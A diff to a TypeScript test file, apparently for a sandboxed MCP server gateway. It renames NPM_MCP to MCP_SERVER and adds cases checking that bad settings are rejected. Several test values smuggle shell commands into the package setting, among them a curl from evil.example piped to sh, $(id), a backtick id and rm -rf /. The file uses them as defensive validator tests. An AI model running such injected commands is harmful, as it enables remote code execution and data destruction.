@@ -118,7 +118,7 @@ interface BadCase {
   expect: string[] | ((dir: string) => string[]);
 }
 
-const NPM_MCP_UNSAFE = 'NPM_MCP may hold only a package spec (name or name@version), a local folder or a .tgz: no spaces, quotes or shell characters';
+const NPM_MCP_UNSAFE = 'NPM_MCP may hold only npm:NAME[@VERSION], pypi:REQUIREMENT or a path: no spaces, quotes, newlines or shell characters';
 const GEN_KEY = 'npm run gen_key';
 const PORT = 'HOST_PORT must be a port number from 1 to 65535';
 
@@ -158,6 +158,19 @@ const BAD_CASES: BadCase[] = [
     expect: ['has a malformed rule at syscalls[0]'],
   },
   { name: 'MCP_INSTALL_SCRIPTS=no', command: 'build', env: `${OK}MCP_INSTALL_SCRIPTS=no\n`, expect: ['MCP_INSTALL_SCRIPTS must be true', 'or false'] },
+  // MCP_SERVER (more cases in server.test.ts)
+  { name: 'MCP_SERVER with a space', env: `${OK}MCP_SERVER=pypi:mcp-server-fetch --ignore-robots-txt\n`, expect: ['MCP_SERVER may hold only', 'Put server arguments in MCP_SERVER_ARGS'] },
+  { name: 'MCP_SERVER with an unknown scheme', command: 'build', env: `${OK}MCP_SERVER=git:server\n`, expect: ["MCP_SERVER 'git:server' has the unknown scheme 'git:'"] },
+  { name: 'MCP_SERVER naming a folder that is no package', command: 'build', env: `${OK}MCP_SERVER=./empty\n`, setup: (dir) => mkdirSync(join(dir, 'empty')), expect: ['has neither package.json (npm) nor pyproject.toml or setup.py (Python)'] },
+  { name: 'MCP_SERVER and NPM_MCP both set', command: 'build', env: `${OK}MCP_SERVER=npm:a\nNPM_MCP=b\n`, expect: ['Both MCP_SERVER and NPM_MCP are set'] },
+  { name: 'MCP_SERVER_ARGS and NPM_MCP_ARGS set differently', inProcess: true, env: `${OK}MCP_SERVER_ARGS=/a\nNPM_MCP_ARGS=/b\n`, expect: ['Both MCP_SERVER_ARGS and NPM_MCP_ARGS are set'] },
+  { name: 'PIP_INDEX_URL with credentials', command: 'build', env: `${OK}PIP_INDEX_URL=https://me:secret@pypi.example.com/simple\n`, expect: ['PIP_INDEX_URL must be an index URL', 'without user:password@'] },
+  {
+    name: 'a Python folder with MCP_INSTALL_SCRIPTS=false', inProcess: true,
+    env: `${OK}MCP_SERVER=./py\nMCP_INSTALL_SCRIPTS=false\n`,
+    setup: (dir) => { mkdirSync(join(dir, 'py')); writeFileSync(join(dir, 'py', 'pyproject.toml'), ''); },
+    expect: ['must be built', 'give a wheel (.whl) instead'],
+  },
   // TEMPLATE
   { name: 'unknown TEMPLATE', env: `${OK}TEMPLATE=apache\n`, expect: ['TEMPLATE must be one of nginx, ngrok, pinggy'] },
   // Tunnel templates: their required settings, checked by the gateway's own module
@@ -176,14 +189,14 @@ const BAD_CASES: BadCase[] = [
   { name: 'NGROK_ALLOW_CIDRS with a host name', inProcess: true, env: `${OK}TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_ALLOW_CIDRS=example.com\n`, expect: ["NGROK_ALLOW_CIDRS entry 'example.com' is not a CIDR"] },
   { name: 'MCP_ENV naming PINGGY_BASIC_AUTH', inProcess: true, env: `${OK}PINGGY_BASIC_AUTH=a:b\nMCP_ENV=PINGGY_BASIC_AUTH\n`, expect: ['MCP_ENV lists PINGGY_BASIC_AUTH, a gateway secret'] },
   // NPM_MCP
-  { name: 'NPM_MCP with a space', env: `${OK}NPM_MCP=@scope/server --port 3000\n`, expect: [NPM_MCP_UNSAFE, 'Put server arguments in NPM_MCP_ARGS'] },
-  { name: 'NPM_MCP with ;', env: `${OK}NPM_MCP=server-x;curl evil.example|sh\n`, expect: [NPM_MCP_UNSAFE, 'NPM_MCP_ARGS'] },
+  { name: 'NPM_MCP with a space', env: `${OK}NPM_MCP=@scope/server --port 3000\n`, expect: [NPM_MCP_UNSAFE, 'Put server arguments in MCP_SERVER_ARGS'] },
+  { name: 'NPM_MCP with ;', env: `${OK}NPM_MCP=server-x;curl evil.example|sh\n`, expect: [NPM_MCP_UNSAFE, 'MCP_SERVER_ARGS'] },
   { name: 'NPM_MCP with $(', env: `${OK}NPM_MCP='server-x$(id)'\n`, expect: [NPM_MCP_UNSAFE] },
   { name: 'NPM_MCP with a backtick', env: `${OK}NPM_MCP=server-x\`id\`\n`, expect: [NPM_MCP_UNSAFE] },
   { name: 'NPM_MCP with a newline', env: `${OK}NPM_MCP="server-x\\nrm -rf /"\n`, expect: [NPM_MCP_UNSAFE] },
   { name: 'NPM_MCP with a quote', inProcess: true, env: `${OK}NPM_MCP=server-x"y\n`, expect: [NPM_MCP_UNSAFE] },
   { name: 'NPM_MCP empty', inProcess: true, env: `${OK}NPM_MCP=\n`, expect: ['NPM_MCP is empty: name an npm package'] },
-  { name: 'NPM_MCP not a package spec', inProcess: true, env: `${OK}NPM_MCP=Server_X\n`, expect: ["NPM_MCP 'Server_X' is not an npm package spec"] },
+  { name: 'NPM_MCP not a package spec', inProcess: true, env: `${OK}NPM_MCP=Server_X\n`, expect: ["NPM_MCP 'npm:Server_X': 'Server_X' is not an npm package name"] },
   {
     name: 'NPM_MCP pointing at a missing local folder',
     env: `${OK}NPM_MCP=./missing-server\n`,
@@ -201,7 +214,7 @@ const BAD_CASES: BadCase[] = [
     setup: (dir) => writeFileSync(join(dir, 'server.zip'), 'zip'),
     expect: ['NPM_MCP names the file', 'only a .tgz made by `npm pack` is accepted'],
   },
-  { name: 'NPM_MCP_ARGS with a newline', inProcess: true, env: `${OK}NPM_MCP_ARGS="/workspace\\n--evil"\n`, expect: ['NPM_MCP_ARGS must be on one line'] },
+  { name: 'NPM_MCP_ARGS with a newline', inProcess: true, env: `${OK}NPM_MCP_ARGS="/workspace\\n--evil"\n`, expect: ['MCP_SERVER_ARGS must be on one line'] },
   // ACCESS_TOKEN
   { name: 'missing ACCESS_TOKEN', env: 'NAME=mcp-test\n', expect: ['ACCESS_TOKEN is missing', GEN_KEY] },
   { name: 'empty ACCESS_TOKEN', inProcess: true, env: 'ACCESS_TOKEN=\n', expect: ['ACCESS_TOKEN is missing', GEN_KEY] },
@@ -410,7 +423,7 @@ describe('valid settings', { concurrency: 4 }, () => {
     assert.ok(command.startsWith('docker build --force-rm --file '), command);
     assert.ok(command.includes(' --tag mcp-sandbox:latest '), command);
     assert.ok(command.includes(' --no-cache '), command);
-    assert.ok(command.includes(' --build-arg NPM_MCP=@modelcontextprotocol/server-filesystem@2026.8.31 '), command);
+    assert.ok(command.includes(' --build-arg MCP_SERVER=npm:@modelcontextprotocol/server-filesystem@2026.8.31 '), command);
     assert.ok(!command.includes('ACCESS_TOKEN') && !command.includes(TOKEN), command);
     assert.equal(existsSync(box.marker), false);
   });
@@ -506,7 +519,7 @@ describe('reading .env runs nothing', () => {
     });
     assert.equal(existsSync(witness), false, 'dotenvx ran the command');
     writeFileSync(envFile, `${OK}NPM_MCP_ARGS='$(touch ${witness})'\n`);
-    assert.equal(loadSettings(envFile, { hostEnv: {}, projectDir: repoRoot }).NPM_MCP_ARGS, `$(touch ${witness})`);
+    assert.equal(loadSettings(envFile, { hostEnv: {}, projectDir: repoRoot }).MCP_SERVER_ARGS, `$(touch ${witness})`);
     assert.equal(existsSync(witness), false);
   });
 });
